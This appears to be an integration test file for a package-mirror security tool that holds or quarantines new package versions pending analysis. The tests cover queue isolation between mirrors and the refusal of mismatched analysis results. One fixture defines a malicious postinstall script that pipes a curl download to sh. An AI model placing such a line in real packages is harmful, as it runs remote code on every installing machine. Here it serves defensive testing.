import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Queue } from 'bullmq';
import { startTestMirror, DAY, HOUR, type TestMirror, visibleVersions } from '../helpers/mirror';
import { FakeUpstream } from '../helpers/fake-upstream';
import { redisConnection } from '../../server/pipeline/bullmq-connection';
import { ResultRecorder } from '../../server/pipeline/record-result';
import { silentLogger } from '../../server/logger';
import { ANALYZER_VERSION } from '../../server/analyzer';
import { loadConfig, queueNameFor } from '../../server/config';
import type { AnalysisJobData, AnalysisOutput } from '../../server/pipeline/analysis-job';

const REDIS_URL = process.env.CORDON_TEST_REDIS_URL ?? 'redis://127.0.0.1:6379';
const WORKER = join(__dirname, '..', '..', 'server', 'pipeline', 'worker-main.js');
const T0 = Date.parse('2026-11-01T12:00:00Z');
const shared = `cordon-shared-${process.pid}-${Date.now().toString(36)}`;
const cwd = mkdtempSync(join(tmpdir(), 'cordon-worker-'));
const children: ChildProcess[] = [];
const mirrors: TestMirror[] = [];
const upstreams: FakeUpstream[] = [];

function startWorker(env: Record<string, string>): ChildProcess {
  const child = spawn(process.execPath, [WORKER], {
    cwd,
    env: { PATH: process.env.PATH, REDIS_URL, CORDON_ANALYSIS_CONCURRENCY: '1', ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  child.stdout!.resume();
  child.stderr!.resume();
  children.push(child);
  return child;
}

async function until(what: string, check: () => boolean | Promise<boolean>, ms = 45_000): Promise<void> {
  const end = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

after(async () => {
  for (const c of children) if (c.exitCode === null) c.kill('SIGKILL');
  for (const m of mirrors) await m.stop();
  for (const u of upstreams) await u.stop();
  const connection = redisConnection(REDIS_URL);
  for (const name of [shared, 'cordon-analysis-shared-a', 'cordon-analysis-shared-b']) {
    const queue = new Queue(name, { connection });
    await queue.obliterate({ force: true });
    await queue.close();
  }
  await connection.quit();
  rmSync(cwd, { recursive: true, force: true });
});

test('each mirror gets its own queue by default', () => {
  const config = loadConfig({ REDIS_URL }, cwd);
  assert.equal(queueNameFor(config, 'prod-1'), 'cordon-analysis-prod-1');
  assert.notEqual(queueNameFor(config, 'mirror-a'), queueNameFor(config, 'mirror-b'));
  assert.equal(queueNameFor(loadConfig({ REDIS_URL, CORDON_QUEUE: 'q' }, cwd), 'mirror-a'), 'q');
});

test("two mirrors with different baselines on one Redis and one queue never take each other's results", async () => {
  const upstream = await new FakeUpstream().start();
  upstreams.push(upstream);
  const postinstall = { postinstall: 'curl -s https://203.0.113.7/p | sh' };
  upstream.publish('shared-lib', '1.8.0', { time: T0 - 30 * DAY });
  upstream.publish('shared-lib', '1.9.0', { time: T0 - HOUR, scripts: postinstall });
  // Mirror B sees 1.9.0 while it is young and holds it; mirror A first sees the package ten days later,
  // when 1.9.0 is part of its baseline. Both are told to use the same queue.
  const b = await startTestMirror({ now: T0, upstream, env: { REDIS_URL, CORDON_QUEUE: shared, CORDON_MIRROR_ID: 'mirror-b' } });
  mirrors.push(b);
  startWorker({ CORDON_QUEUE: shared });
  await fetch(`${b.mirror.url}shared-lib`);
  await until(
    'B to analyse 1.9.0',
    async () => (await b.mirror.runtime.store.versions.versionOf('shared-lib', '1.9.0'))?.analysis !== 'pending',
  );
  assert.equal((await b.mirror.runtime.store.versions.versionOf('shared-lib', '1.9.0'))?.state, 'held');

  const a = await startTestMirror({ now: T0 + 10 * DAY, upstream, env: { REDIS_URL, CORDON_QUEUE: shared, CORDON_MIRROR_ID: 'mirror-a' } });
  mirrors.push(a);
  b.clock.set(T0 + 10 * DAY);
  assert.deepEqual(await visibleVersions(`${a.mirror.url}shared-lib`), ['1.8.0', '1.9.0']);
  upstream.publish('shared-lib', '2.0.0', { time: T0 + 10 * DAY - HOUR, scripts: postinstall });
  await fetch(`${a.mirror.url}shared-lib`);
  await fetch(`${b.mirror.url}shared-lib`);
  await until('both mirrors to analyse 2.0.0', async () =>
    (await Promise.all([a, b].map((m) => m.mirror.runtime.store.versions.versionOf('shared-lib', '2.0.0')))).every(
      (r) => r?.analysis !== 'pending',
    ),
  );

  const statusOf = async (m: TestMirror) =>
    (
      (await (await fetch(`${m.mirror.url}-/cordon/api/v1/packages/shared-lib`)).json()) as {
        versions: Array<{ version: string; state: string; analysis: { previousVersion: string | null } }>;
      }
    ).versions.find((v) => v.version === '2.0.0')!;
  const atA = await statusOf(a);
  const atB = await statusOf(b);
  assert.equal(atA.analysis.previousVersion, '1.9.0');
  assert.equal(atA.state, 'quarantined', 'A: the postinstall was already in its baseline');
  assert.equal(atB.analysis.previousVersion, '1.8.0', "B compared with what B serves, not with A's baseline");
  assert.equal(atB.state, 'held', 'B holds the postinstall its approvers never reviewed');
  b.clock.advance(30 * DAY);
  assert.deepEqual(await visibleVersions(`${b.mirror.url}shared-lib`), ['1.8.0'], 'time alone releases nothing B holds');
});

test('a result answering another question is refused and logged, never recorded', async () => {
  const m = await startTestMirror({ now: T0 });
  mirrors.push(m);
  m.upstream.publish('q-lib', '1.0.0', { time: T0 - 30 * DAY });
  m.upstream.publish('q-lib', '1.0.1', { time: T0 - HOUR });
  await fetch(`${m.mirror.url}q-lib`);
  const job = (await m.mirror.runtime.store.jobs.claim(T0, 60_000, 10))[0]!;
  const record = (await m.mirror.runtime.store.versions.versionOf('q-lib', '1.0.1'))!;
  const question: AnalysisJobData['question'] = {
    mirrorId: m.mirror.runtime.mirrorId,
    package: 'q-lib',
    version: '1.0.1',
    integrity: record.integrity!,
    previousVersion: '1.0.0',
    previousIntegrity: (await m.mirror.runtime.store.versions.versionOf('q-lib', '1.0.0'))!.integrity!,
    analyzerVersion: ANALYZER_VERSION,
  };
  const data = { question } as AnalysisJobData;
  const clean = (q: typeof question): AnalysisOutput => ({
    question: q,
    findings: [],
    digest: 'd',
    maxSeverity: null,
    analyzerVersion: ANALYZER_VERSION,
    previousVersion: q.previousVersion,
    blobs: { next: record.integrity!, previous: null },
    timings: { fetchMs: 0, unpackMs: 0, analyzeMs: 0, totalMs: 0 },
  });
  const errors: unknown[] = [];
  const recorder = new ResultRecorder(m.mirror.runtime, { ...silentLogger, error: (fields) => errors.push(fields) });
  const wrong: Array<Partial<typeof question>> = [
    { previousVersion: null, previousIntegrity: null },
    { previousIntegrity: 'sha512-other' },
    { integrity: 'sha512-other' },
    { mirrorId: 'another-mirror' },
    { analyzerVersion: '0.0.1' },
  ];
  for (const change of wrong) {
    assert.equal(await recorder.succeeded(job, data, clean({ ...question, ...change })), 'refused', JSON.stringify(change));
  }
  assert.equal(
    await recorder.succeeded(
      job,
      { question: { ...question, mirrorId: 'another-mirror' } } as AnalysisJobData,
      clean({ ...question, mirrorId: 'another-mirror' }),
    ),
    'refused',
    "another mirror's job",
  );
  assert.equal(errors.length, wrong.length + 1);
  assert.equal((await m.mirror.runtime.store.versions.versionOf('q-lib', '1.0.1'))!.analysis, 'pending', 'nothing was recorded');
  assert.equal(await recorder.succeeded(job, data, clean(question)), 'recorded');
  assert.equal((await m.mirror.runtime.store.versions.versionOf('q-lib', '1.0.1'))!.analysis, 'clean');
});
